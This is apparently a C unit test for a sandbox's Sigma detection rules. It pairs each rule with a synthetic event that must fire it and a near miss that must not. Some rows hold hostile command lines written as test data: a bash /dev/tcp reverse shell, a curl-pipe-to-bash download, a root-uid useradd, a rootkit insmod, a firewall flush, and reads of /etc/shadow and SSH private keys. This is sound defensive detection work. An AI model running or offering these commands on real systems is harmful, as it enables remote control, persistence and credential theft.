/* SPDX-License-Identifier: MIT */
/*
 * Every rule of rules/sigma: events that fire it, and near misses that must not. A rule without a
 * row here fails the test.
 */
#include "unit/cmocka.h"

#include <stdio.h>
#include <string.h>

#include "base/text.h"
#include "behavior/matcher.h"

#define SAMPLE_SHA256 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define OTHER_SHA256 "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"

/* Paths that packages own, sorted, in their merged places. */
static const char packages[] = "/etc/init.d/cron\n"
			       "/usr/bin/ps\n"
			       "/usr/lib/systemd/system/cron.service\n";

/* Events by p2, a process of the sample that runs /opt/tool; p9 is the guest's own. */
#define BY_SAMPLE .process = "p2", .is_sample = true, .phase = PHASE_RUN, .count = 1
#define STRINGS(...)                                                                               \
	{                                                                                          \
		.data = (const char *[]){__VA_ARGS__},                                             \
		.count = sizeof((const char *[]){__VA_ARGS__}) / sizeof(const char *)              \
	}
#define EXEC(image, ...)                                                                           \
	{                                                                                          \
		BY_SAMPLE, .type = EVENT_KIND_EXEC, .path = (image),                               \
			   .arguments = STRINGS(__VA_ARGS__)                                       \
	}
#define EXEC_ENVIRONMENT(image, variable)                                                          \
	{                                                                                          \
		BY_SAMPLE, .type = EVENT_KIND_EXEC, .path = (image),                               \
			   .environment = STRINGS(variable)                                        \
	}
#define EXEC_FLAG(image, flag)                                                                     \
	{                                                                                          \
		BY_SAMPLE, .type = EVENT_KIND_EXEC, .path = (image), .flag = true                  \
	}
#define FILE_EVENT(kind, name, ...)                                                                \
	{                                                                                          \
		BY_SAMPLE, .type = EVENT_KIND_FILE_##kind, .path = (name), __VA_ARGS__             \
	}
#define NET_EVENT(kind, transport, ip, number, ...)                                                \
	{                                                                                          \
		BY_SAMPLE, .type = EVENT_KIND_##kind, .protocol = (transport), .address = (ip),    \
			   .port = (number), __VA_ARGS__                                           \
	}
#define LISTEN_EVENT(ip, number)                                                                   \
	{                                                                                          \
		BY_SAMPLE, .type = EVENT_KIND_LISTEN, .protocol = "tcp", .local_address = (ip),    \
			   .local_port = (number)                                                  \
	}
#define DNS_EVENT(question, answer)                                                                \
	{                                                                                          \
		.is_sample = true, .phase = PHASE_RUN, .type = EVENT_KIND_DNS, .name = (question), \
		.address = (answer)                                                                \
	}
#define OTHER_EVENT(kind, ...)                                                                     \
	{                                                                                          \
		BY_SAMPLE, .type = EVENT_KIND_##kind, __VA_ARGS__                                  \
	}
#define FILE_SUMMARY(...)                                                                          \
	{                                                                                          \
		__VA_ARGS__, .processes = STRINGS("p2")                                            \
	}

enum { EVENTS_MAX = 4, FILES_MAX = 3 };

struct row {
	const char *rule; /* file below rules/sigma, without .yml */
	struct event fires[EVENTS_MAX];
	struct event near[EVENTS_MAX];
	struct file_activity file_fires[FILES_MAX];
	struct file_activity file_near[FILES_MAX];
};

static const struct row persistence_rows[] = {
	{"persistence/rc_link",
	 .fires = {FILE_EVENT(SYMLINK, "/etc/rc1.d/S97VsystemsshMdt",
			      .target = "/etc/init.d/VsystemsshMdt")},
	 .near = {FILE_EVENT(SYMLINK, "/etc/rc5.d/S01cron", .target = "../init.d/cron")}},
	{"persistence/init_script", .fires = {FILE_EVENT(CREATE, "/etc/init.d/VsystemsshMdt")},
	 .near = {FILE_EVENT(WRITE, "/etc/init.d/cron")}},
	{"persistence/rc_local", .fires = {FILE_EVENT(WRITE, "/etc/rc.local")},
	 .near = {FILE_EVENT(CREATE, "/root/rc.local")}},
	{"persistence/cron", .fires = {FILE_EVENT(CREATE, "/etc/cron.hourly/gcc.sh")},
	 .near = {FILE_EVENT(WRITE, "/var/log/cron.log")}},
	{"persistence/at_job", .fires = {FILE_EVENT(CREATE, "/var/spool/cron/atjobs/a0000101c2")},
	 .near = {FILE_EVENT(CREATE, "/var/spool/mail/root")}},
	{"persistence/systemd_unit",
	 .fires = {FILE_EVENT(CREATE, "/etc/systemd/system/kworker.service")},
	 .near = {FILE_EVENT(CREATE, "/tmp/systemd-private-1/x.service"),
		  FILE_EVENT(WRITE, "/usr/lib/systemd/system/cron.service")}},
	{"persistence/ld_so_preload", .fires = {FILE_EVENT(CREATE, "/etc/ld.so.preload")},
	 .near = {FILE_EVENT(WRITE, "/etc/ld.so.cache")}},
	{"persistence/preload_environment",
	 .fires = {EXEC_ENVIRONMENT("/usr/bin/ls", "LD_PRELOAD=/tmp/x.so")},
	 .near = {EXEC_ENVIRONMENT("/usr/bin/ls", "LD_LIBRARY_PATH=/opt/lib")}},
	{"persistence/ssh_keys", .fires = {FILE_EVENT(WRITE, "/root/.ssh/authorized_keys")},
	 .near = {FILE_EVENT(WRITE, "/root/.ssh/known_hosts")}},
	{"persistence/shell_profile", .fires = {FILE_EVENT(WRITE, "/root/.bashrc")},
	 .near = {FILE_EVENT(WRITE, "/root/.bash_history")}},
	{"persistence/udev_rule", .fires = {FILE_EVENT(CREATE, "/etc/udev/rules.d/75-net.rules")},
	 .near = {FILE_EVENT(CREATE, "/run/udev/data/b8:0")}},
	{"persistence/xdg_autostart",
	 .fires = {FILE_EVENT(CREATE, "/home/u/.config/autostart/x.desktop")},
	 .near = {FILE_EVENT(CREATE, "/usr/share/applications/x.desktop")}},
	{"persistence/motd", .fires = {FILE_EVENT(CREATE, "/etc/update-motd.d/99-x")},
	 .near = {FILE_EVENT(WRITE, "/etc/motd")}},
	{"persistence/module_autoload", .fires = {FILE_EVENT(CREATE, "/etc/modules-load.d/x.conf")},
	 .near = {FILE_EVENT(WRITE, "/etc/modprobe.d/x.conf")}},
	{"persistence/account",
	 .fires = {FILE_EVENT(RENAME, "/etc/passwd.tmp", .target = "/etc/passwd")},
	 .near = {FILE_EVENT(OPEN, "/etc/passwd"), FILE_EVENT(CREATE, "/etc/passwd-")}},
	{"persistence/sudoers", .fires = {FILE_EVENT(CREATE, "/etc/sudoers.d/x")},
	 .near = {FILE_EVENT(CREATE, "/var/lib/sudo/lectured/x")}},
	{"persistence/pam",
	 .fires = {FILE_EVENT(WRITE, "/usr/lib/x86_64-linux-gnu/security/pam_unix.so")},
	 .near = {FILE_EVENT(OPEN, "/usr/lib/x86_64-linux-gnu/security/pam_unix.so")}},
};

static const struct row files_rows[] = {
	{"files/self_delete", .fires = {FILE_EVENT(DELETE, "/root/sample", .is_of_sample = true)},
	 .near = {FILE_EVENT(DELETE, "/tmp/installer.tmp")}},
	{"files/self_rename",
	 .fires = {FILE_EVENT(RENAME, "/root/sample", .target = "/usr/bin/.sshd",
			      .is_of_sample = true)},
	 .near = {FILE_EVENT(RENAME, "/tmp/a", .target = "/tmp/b")}},
	{"files/self_copy",
	 .file_fires = {FILE_SUMMARY(.path = "/usr/bin/bsd-port/knerl", .sha256 = SAMPLE_SHA256,
				     .operations = STRINGS("created", "written"))},
	 .file_near = {FILE_SUMMARY(.path = "/var/backups/passwd.bak", .sha256 = OTHER_SHA256,
				    .operations = STRINGS("created", "written"))}},
	{"files/system_program_changed",
	 .file_fires = {FILE_SUMMARY(.path = "/usr/bin/ps", .existed_before = true,
				     .operations = STRINGS("replaced"))},
	 .file_near = {FILE_SUMMARY(.path = "/tmp/x", .renamed_to = "/usr/bin/x",
				    .existed_before = true, .operations = STRINGS("renamed")),
		       FILE_SUMMARY(.path = "/usr/bin/ps", .existed_before = true,
				    .operations = STRINGS("opened")),
		       FILE_SUMMARY(.path = "/usr/bin/bsd-port/x",
				    .operations = STRINGS("created", "written"))}},
	{"files/package_file_changed",
	 .file_fires = {FILE_SUMMARY(.path = "/bin/ps", .existed_before = true,
				     .operations = STRINGS("written"))},
	 .file_near = {FILE_SUMMARY(.path = "/usr/bin/own-tool", .existed_before = true,
				    .operations = STRINGS("written"))}},
	{"files/made_executable",
	 .fires = {FILE_EVENT(CHMOD, "/tmp/x", .mode = 0755, .is_planted = true)},
	 .near = {FILE_EVENT(CHMOD, "/tmp/x", .mode = 0644, .is_planted = true),
		  FILE_EVENT(CHMOD, "/usr/bin/tool", .mode = 0755)}},
	{"files/setuid", .fires = {FILE_EVENT(CHMOD, "/tmp/sh", .mode = 04755)},
	 .near = {FILE_EVENT(CHMOD, "/tmp/d", .mode = 01777)}},
	{"files/hidden", .fires = {FILE_EVENT(CREATE, "/tmp/.X11-lock/.a")},
	 .near = {FILE_EVENT(CREATE, "/tmp/a.b"), FILE_EVENT(CREATE, "/root/.cache")}},
	{"files/timestomp", .fires = {FILE_EVENT(TIMES, "/usr/bin/x", .number_of = 1000000000)},
	 .near = {FILE_EVENT(TIMES, "/tmp/x")}},
	{"files/log_deleted", .fires = {FILE_EVENT(DELETE, "/var/log/auth.log")},
	 .near = {FILE_EVENT(DELETE, "/var/log/own.log", .is_planted = true)}},
	{"files/log_truncated", .fires = {FILE_EVENT(TRUNCATE, "/var/log/wtmp")},
	 .near = {FILE_EVENT(WRITE, "/var/log/syslog")}},
	{"files/history_deleted", .fires = {FILE_EVENT(DELETE, "/root/.bash_history")},
	 .near = {FILE_EVENT(DELETE, "/root/history.txt")}},
	{"files/history_disabled",
	 .fires = {FILE_EVENT(SYMLINK, "/root/.bash_history", .target = "/dev/null")},
	 .near = {FILE_EVENT(WRITE, "/root/.bash_history")}},
	{"files/hosts", .fires = {FILE_EVENT(WRITE, "/etc/hosts")},
	 .near = {FILE_EVENT(WRITE, "/etc/hostname")}},
	{"files/encrypted_names",
	 .fires = {FILE_EVENT(RENAME, "/home/u/a.doc", .target = "/home/u/a.doc.locked")},
	 .near = {FILE_EVENT(RENAME, "/home/u/a", .target = "/home/u/a.bak")}},
	{"files/disk_written", .fires = {FILE_EVENT(OPEN, "/dev/vda", .is_writable = true)},
	 .near = {FILE_EVENT(OPEN, "/dev/vda")}},
	{"files/watchdog", .fires = {FILE_EVENT(OPEN, "/dev/watchdog", .is_writable = true)},
	 .near = {FILE_EVENT(OPEN, "/dev/random")}},
	{"files/kernel_settings", .fires = {FILE_EVENT(TRUNCATE, "/proc/sys/kernel/core_pattern")},
	 .near = {FILE_EVENT(WRITE, "/proc/self/comm")}},
	{"files/selinux_config", .fires = {FILE_EVENT(WRITE, "/etc/selinux/config")},
	 .near = {FILE_EVENT(OPEN, "/etc/selinux/config")}},
	{"files/shadow_read", .fires = {FILE_EVENT(OPEN, "/etc/shadow")},
	 .near = {EXEC("/usr/bin/su", "su"), FILE_EVENT(OPEN, "/etc/shadow"),
		  FILE_EVENT(OPEN, "/etc/passwd")}},
	{"files/private_keys_read", .fires = {FILE_EVENT(OPEN, "/root/.ssh/id_ed25519")},
	 .near = {FILE_EVENT(OPEN, "/root/.ssh/id_ed25519.pub")}},
	{"files/known_hosts_read", .fires = {FILE_EVENT(OPEN, "/root/.ssh/known_hosts")},
	 .near = {EXEC("/usr/bin/ssh", "ssh", "h"), FILE_EVENT(OPEN, "/root/.ssh/known_hosts")}},
	{"files/history_read", .fires = {FILE_EVENT(OPEN, "/root/.bash_history")},
	 .near = {EXEC("/bin/bash", "bash"), FILE_EVENT(OPEN, "/root/.bash_history")}},
	{"files/process_memory_written",
	 .fires = {FILE_EVENT(OPEN, "/proc/77/mem", .is_writable = true)},
	 .near = {FILE_EVENT(OPEN, "/proc/77/mem"),
		  FILE_EVENT(OPEN, "/proc/77/maps", .is_writable = true)}},
	{"files/kernel_memory", .fires = {FILE_EVENT(OPEN, "/proc/kcore")},
	 .near = {FILE_EVENT(OPEN, "/dev/zero")}},
	{"files/machine_identity_read",
	 .fires = {FILE_EVENT(OPEN, "/sys/devices/virtual/dmi/id/product_name")},
	 .near = {FILE_EVENT(OPEN, "/sys/devices/system/cpu/online")}},
};

static const struct row process_rows[] = {
	{"process/memfd", .fires = {EXEC_FLAG("/memfd:x", is_memfd)},
	 .near = {EXEC("/usr/bin/true", "true")}},
	{"process/dropped", .fires = {EXEC_FLAG("/usr/bin/bsd-port/knerl", is_planted)},
	 .near = {EXEC("/usr/bin/id", "id")}},
	{"process/temporary_folder", .fires = {EXEC("/dev/shm/x", "x")},
	 .near = {EXEC_FLAG("/tmp/sample", is_of_sample), EXEC("/usr/bin/ls", "ls", "/tmp/")}},
	{"process/hidden_program", .fires = {EXEC("/var/tmp/.x/run", "run")},
	 .near = {EXEC("/opt/a.b/run", "run")}},
	{"process/kernel_thread_name", .fires = {EXEC("/usr/bin/x", "[kworker/0:1]")},
	 .near = {EXEC("/usr/bin/[", "[", "-f", "x", "]")}},
	{"process/shell_command", .fires = {EXEC("/usr/bin/dash", "sh", "-c", "id")},
	 .near = {EXEC("/usr/bin/bash", "bash")}},
	{"process/reverse_shell",
	 .fires = {EXEC("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")},
	 .near = {EXEC("/usr/bin/nc", "nc", "-l", "80"), EXEC("/usr/bin/ls", "ls", "/dev/")}},
	{"process/download", .fires = {EXEC("/usr/bin/wget", "wget", "http://198.18.0.9/a.sh")},
	 .near = {EXEC("/usr/bin/curl", "curl", "--version")}},
	{"process/download_and_run",
	 .fires = {EXEC("/bin/sh", "sh", "-c", "curl -s http://198.18.0.9/x | bash")},
	 .near = {EXEC("/bin/sh", "sh", "-c", "curl -s http://198.18.0.9/x | grep y")}},
	{"process/decode", .fires = {EXEC("/usr/bin/base64", "base64", "-d", "x")},
	 .near = {EXEC("/usr/bin/base64", "base64", "x")}},
	{"process/security_stopped",
	 .fires = {EXEC("/usr/bin/systemctl", "systemctl", "stop", "rsyslog")},
	 .near = {EXEC("/usr/bin/systemctl", "systemctl", "status", "rsyslog")}},
	{"process/firewall", .fires = {EXEC("/usr/sbin/iptables", "iptables", "-F")},
	 .near = {EXEC("/usr/sbin/iptables", "iptables", "-L")}},
	{"process/attribute_tool", .fires = {EXEC("/usr/bin/chattr", "chattr", "+i", "/etc/x")},
	 .near = {EXEC("/usr/bin/lsattr", "lsattr", "/etc")}},
	{"process/module_tool", .fires = {EXEC("/usr/bin/kmod", "insmod", "/tmp/rk.ko")},
	 .near = {EXEC("/usr/bin/kmod", "lsmod")}},
	{"process/account_tool",
	 .fires = {EXEC("/usr/sbin/useradd", "useradd", "-o", "-u", "0", "x")},
	 .near = {EXEC("/usr/bin/users", "users")}},
	{"process/service_tool", .fires = {EXEC("/usr/bin/crontab", "crontab", "-")},
	 .near = {EXEC("/usr/bin/crontab", "crontab", "-l")}},
	{"process/discovery", .fires = {EXEC("/usr/bin/uname", "uname", "-a")},
	 .near = {EXEC("/usr/bin/printf", "printf", "x")}},
	{"process/miner", .fires = {EXEC("/tmp/x", "x", "-o", "stratum+tcp://pool:3333")},
	 .near = {EXEC("/usr/bin/x", "x", "-o", "tcp://pool:3333")}},
	{"process/rival_killed",
	 .fires = {OTHER_EVENT(KILL, .other_process = "p9", .name = "SIGKILL")},
	 .near = {OTHER_EVENT(KILL, .other_process = "p1", .name = "SIGKILL"),
		  OTHER_EVENT(KILL, .other_process = "p9", .name = "SIGWINCH")}},
	{"process/kill_tool", .fires = {EXEC("/usr/bin/pkill", "pkill", "-9", "xmrig")},
	 .near = {EXEC("/usr/bin/pgrep", "pgrep", "x")}},
	{"process/ptrace", .fires = {OTHER_EVENT(PTRACE, .other_process = "p9", .number_of = 2)},
	 .near = {OTHER_EVENT(PTRACE, .other_process = "p1", .number_of = 2)}},
	{"process/anti_debug",
	 .fires = {OTHER_EVENT(SYSCALL, .name = "ptrace", .number_of = 101, .abi = "x86_64")},
	 .near = {OTHER_EVENT(SYSCALL, .name = "prctl", .number_of = 157, .abi = "x86_64")}},
	{"process/read_other_memory",
	 .fires = {OTHER_EVENT(SYSCALL, .name = "process_vm_writev", .number_of = 311,
			       .abi = "x86_64")},
	 .near = {OTHER_EVENT(SYSCALL, .name = "writev", .number_of = 20, .abi = "x86_64")}},
	{"process/memfd_created",
	 .fires = {OTHER_EVENT(SYSCALL, .name = "memfd_create", .number_of = 319, .abi = "x86_64")},
	 .near = {OTHER_EVENT(SYSCALL, .name = "mmap", .number_of = 9, .abi = "x86_64")}},
	{"process/io_uring",
	 .fires = {OTHER_EVENT(SYSCALL, .name = "io_uring_setup", .number_of = 425,
			       .abi = "x86_64")},
	 .near = {OTHER_EVENT(SYSCALL, .name = "io_setup", .number_of = 206, .abi = "x86_64")}},
	{"process/reboot",
	 .fires = {OTHER_EVENT(SYSCALL, .name = "reboot", .number_of = 169, .abi = "x86_64")},
	 .near = {OTHER_EVENT(SYSCALL, .name = "sync", .number_of = 162, .abi = "x86_64")}},
};

static const struct row system_rows[] = {
	{"system/module_load",
	 .fires = {OTHER_EVENT(MODULE_LOAD, .name = "rk", .path = "/tmp/rk.ko")},
	 .near = {OTHER_EVENT(MODULE_REQUEST, .name = "net-pf-10")}},
	{"system/bpf_program", .fires = {OTHER_EVENT(BPF, .number_of = 5)},
	 .near = {OTHER_EVENT(BPF, .number_of = 0)}},
	{"system/process_hidden", .fires = {OTHER_EVENT(MOUNT, .path = "/proc/77")},
	 .near = {OTHER_EVENT(MOUNT, .path = "/mnt")}},
};

static const struct row network_rows[] = {
	{"network/dns_query", .fires = {DNS_EVENT("www.id666.example", "198.18.0.1")},
	 .near = {DNS_EVENT("1.0.0.127.in-addr.arpa", "198.18.0.1")}},
	{"network/dynamic_dns", .fires = {DNS_EVENT("evil.f3322.net", "198.18.0.1")},
	 .near = {DNS_EVENT("www.3322.example", "198.18.0.1")}},
	{"network/tunnel_name", .fires = {DNS_EVENT("abc.onion.ws", "198.18.0.1")},
	 .near = {DNS_EVENT("onion.example", "198.18.0.1")}},
	{"network/connection", .fires = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 80)},
	 .near = {NET_EVENT(CONNECT, "tcp", "127.0.0.1", 80),
		  NET_EVENT(CONNECT, "udp", "203.0.113.9", 53)}},
	{"network/unusual_port", .fires = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 21351)},
	 .near = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 443)}},
	{"network/irc_port", .fires = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 6667)},
	 .near = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 6670)}},
	{"network/telnet_scan", .fires = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 2323)},
	 .near = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 25)}},
	{"network/ssh_out", .fires = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 22)},
	 .near = {EXEC("/usr/bin/ssh", "ssh", "h"), NET_EVENT(CONNECT, "tcp", "203.0.113.9", 22)}},
	{"network/mining_port", .fires = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 3333)},
	 .near = {NET_EVENT(CONNECT, "tcp", "203.0.113.9", 3334)}},
	{"network/listen", .fires = {LISTEN_EVENT("0.0.0.0", 31337)},
	 .near = {LISTEN_EVENT("127.0.0.1", 31337)}},
	{"network/raw_socket", .fires = {OTHER_EVENT(SOCKET, .protocol = "raw")},
	 .near = {OTHER_EVENT(SOCKET, .protocol = "icmp")}},
	{"network/packet_socket", .fires = {OTHER_EVENT(SOCKET, .protocol = "packet")},
	 .near = {OTHER_EVENT(SOCKET, .protocol = "netlink")}},
};
static const struct {
	const struct row *rows;
	size_t count;
} tables[] = {
	{persistence_rows, ARRAY_SIZE(persistence_rows)}, {files_rows, ARRAY_SIZE(files_rows)},
	{process_rows, ARRAY_SIZE(process_rows)},         {system_rows, ARRAY_SIZE(system_rows)},
	{network_rows, ARRAY_SIZE(network_rows)},
};

static const struct analysis_facts facts = {
	.sample_sha256 = SAMPLE_SHA256,
	.package_files = {.data = (const uint8_t *)packages, .size = sizeof(packages) - 1},
};

static struct rules *load_rules(void)
{
	struct rules *rules = rules_new();
	cleanup_rule_problems struct rule_problems problems = {0};

	assert_null(rules_add_path(rules, SOURCE_ROOT "/rules/sigma", &problems));
	assert_int_equal(problems.list.count, 0);
	assert_true(rules_count(rules) > 50);
	return rules;
}

static const struct event prologue[] = {
	{.process = "p9", .type = EVENT_KIND_EXEC, .path = "/usr/sbin/sshd", .phase = PHASE_RUN},
	{.process = "p1",
	 .is_sample = true,
	 .type = EVENT_KIND_EXEC,
	 .path = "/root/sample",
	 .is_of_sample = true,
	 .phase = PHASE_RUN,
	 .arguments = STRINGS("./sample")},
	{.process = "p1",
	 .is_sample = true,
	 .type = EVENT_KIND_FORK,
	 .other_process = "p2",
	 .phase = PHASE_RUN},
	{.process = "p2",
	 .is_sample = true,
	 .type = EVENT_KIND_EXEC,
	 .path = "/opt/tool",
	 .phase = PHASE_RUN,
	 .arguments = STRINGS("tool")},
};

static void begin(struct matcher *matcher)
{
	for (size_t i = 0; i < ARRAY_SIZE(prologue); i++)
		matcher_event(matcher, &prologue[i]);
}

/* How often the rule of that file matched in events and files. */
static uint64_t matches(const struct rules *rules, const char *file, const struct event *events,
			const struct file_activity *files)
{
	cleanup_matcher struct matcher *matcher = matcher_new(rules, &facts);
	cleanup_arena struct arena *arena = arena_new(0);
	struct findings findings;
	uint64_t count = 0;

	begin(matcher);
	for (size_t i = 0; i < EVENTS_MAX; i++) {
		struct event event = events[i];
		event.number = 10 + i;
		if (event.phase == PHASE_RUN && event.is_sample)
			matcher_event(matcher, &event);
	}
	for (size_t i = 0; i < FILES_MAX; i++)
		if (files[i].path)
			matcher_file(matcher, &files[i]);
	matcher_finish(matcher, arena, &findings);
	for (size_t i = 0; i < findings.count; i++)
		if (text_ends_with(findings.data[i].source, file))
			count += findings.data[i].matches;
	return count;
}

static void every_rule_fires_and_its_near_miss_does_not(void **state UNUSED)
{
	cleanup_rules struct rules *rules = load_rules();
	unsigned bad = 0;

	for (size_t t = 0; t < ARRAY_SIZE(tables); t++)
		for (size_t r = 0; r < tables[t].count; r++) {
			const struct row *row = &tables[t].rows[r];
			char file[128];
			snprintf(file, sizeof(file), "/rules/sigma/%s.yml", row->rule);
			if (matches(rules, file, row->fires, row->file_fires) == 0 && ++bad)
				print_error("%s does not fire\n", row->rule);
			if (matches(rules, file, row->near, row->file_near) != 0 && ++bad)
				print_error("%s fires on its near miss\n", row->rule);
		}
	assert_int_equal(bad, 0);
}

static bool has_row(const struct rule *rule)
{
	for (size_t t = 0; t < ARRAY_SIZE(tables); t++)
		for (size_t r = 0; r < tables[t].count; r++)
			if (strstr(rule->source, tables[t].rows[r].rule))
				return true;
	return false;
}

static void every_rule_is_tested_and_complete(void **state UNUSED)
{
	cleanup_rules struct rules *rules = load_rules();

	for (size_t i = 0; i < rules_count(rules); i++) {
		const struct rule *rule = rules_at(rules, i);
		if (!has_row(rule))
			fail_msg("%s has no row", rule->source);
		assert_non_null(rule->title_zh);
		assert_non_null(rule->description);
		assert_int_equal(strlen(rule->id), 36);
		assert_true(rule->views != 0);
		assert_null(rule->unknown_field);
		assert_true(rule->attack.count > 0);
		for (size_t k = 0; k < rule->attack.count; k++)
			if (!rule->attack.data[k].name || rule->attack.data[k].tactics.count == 0)
				fail_msg("%s: %s has no name", rule->source,
					 rule->attack.data[k].id);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_rule_fires_and_its_near_miss_does_not),
		cmocka_unit_test(every_rule_is_tested_and_complete),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
